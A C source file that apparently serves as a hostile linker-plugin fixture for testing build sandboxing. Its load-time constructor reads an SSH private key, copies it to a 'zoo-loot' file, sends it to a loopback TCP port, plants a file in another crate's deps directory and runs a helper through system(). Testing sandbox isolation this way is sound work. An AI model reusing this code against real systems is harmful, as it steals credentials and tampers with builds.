/* A linker plugin that has nothing to do with linking: it reads a secret, sends it away, leaves it beside itself, starts a program from
 * there, and overwrites what another crate left in `deps`. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void leave(const char *dir, const char *name, const char *text, size_t length) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        if (write(fd, text, length) < 0) { /* nothing to be done */ }
        close(fd);
    }
}

__attribute__((constructor)) static void act(void) {
    Dl_info self;
    char dir[4096], path[8192], secret[4096];
    if (!dladdr((void *)act, &self)) return;
    snprintf(dir, sizeof dir, "%s", self.dli_fname);
    *strrchr(dir, '/') = 0;

    snprintf(path, sizeof path, "%s/home/.ssh/id_ed25519", getenv("ZOO_PLACE"));
    int fd = open(path, O_RDONLY);
    ssize_t length = fd < 0 ? -1 : read(fd, secret, sizeof secret);
    if (length > 0) {
        leave(dir, "zoo-loot", secret, (size_t)length);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(getenv("ZOO_TCP")))};
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        int sink = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(sink, (struct sockaddr *)&to, sizeof to) == 0 && write(sink, secret, (size_t)length) < 0) { /* gone */ }
        close(sink);
    }
    snprintf(path, sizeof path, "%s/../../../deps", dir);
    leave(path, "libzoo_plant.so.1", "", 0);
    snprintf(path, sizeof path, "%s/wrap", dir);
    char command[8300];
    snprintf(command, sizeof command, "'%s' true", path);
    if (system(command) != 0) { /* refused */ }
}

/* `enum ld_plugin_status onload(struct ld_plugin_tv *)`: 0 is LDPS_OK. */
int onload(void *vector) {
    (void)vector;
    return 0;
}
